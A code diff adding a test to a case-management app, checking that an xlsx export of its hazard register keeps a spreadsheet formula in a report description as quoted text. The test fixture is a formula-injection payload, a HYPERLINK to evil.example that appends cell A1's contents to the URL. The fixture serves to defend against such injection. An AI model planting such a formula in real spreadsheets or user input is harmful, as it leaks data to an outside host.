@@ -80,6 +80,18 @@ def test_the_register_lists_and_exports_in_the_tables_shape(
     assert AuditEntry.objects.filter(action="case.export", actor=staff).exists()
 
 
+def test_the_register_keeps_a_formula_in_a_description_as_text(client, resident, staff):
+    injected = '=HYPERLINK("http://evil.example/?"&A1,"查看详情")'
+    case = case_report(actor=resident, report=report(description=injected))
+    client.force_login(staff)
+    exported = client.get(reverse("cases:hazard_register"), {"export": "xlsx"})
+    sheet = load_workbook(io.BytesIO(b"".join(exported.streaming_content))).active
+    cells = [c for c in sheet[2] if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert [c.value for c in cells] == [injected]
+    assert cells[0].data_type == "s" and cells[0].quotePrefix
+    assert case.number in [c.value for c in sheet[2]]
+
+
 def test_an_extension_is_approved_by_the_level_above(tree, resident, grid_worker, staff, user_with):
     case = case_report(actor=resident, report=report(code="city-garbage"))
     case = case_act(actor=grid_worker, case=case, action="start")
